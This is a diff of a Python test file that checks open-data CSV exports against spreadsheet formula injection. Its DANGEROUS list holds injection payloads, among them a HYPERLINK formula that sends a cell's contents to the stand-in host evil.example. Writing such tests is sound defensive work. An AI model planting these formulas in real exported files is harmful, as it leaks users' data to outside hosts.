@@ -16,6 +16,7 @@ from coproduce.commonground import read_polis
 from coproduce.conversations.actions import do_cast_vote
 from coproduce.conversations.models import Statement
 from coproduce.engagements.models import Engagement
+from tests.open_data import build_open_data
 
 DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1", "-cmd", "@SUM(A1:A9)", "\tx", "\rx"]
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
@@ -48,6 +49,7 @@ def injected_world(api_world):
 
 
 def all_csv_cells(client, slug: str) -> dict[str, list[list[str]]]:
+    build_open_data(Engagement.objects.get(slug=slug))
     response = client.get(reverse("api_pages:open_data_file", args=[slug, "open-data.zip"]))
     assert response.status_code == 200
     files = {}
@@ -102,6 +104,7 @@ def test_numbers_stay_numbers(injected_world, client):
 
 
 def test_the_polis_files_read_back_with_the_original_words(injected_world, client, tmp_path):
+    build_open_data(injected_world.public)
     response = client.get(reverse("api_pages:open_data_file", args=[injected_world.public.slug, "polis.zip"]))
     with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
         archive.extractall(tmp_path)
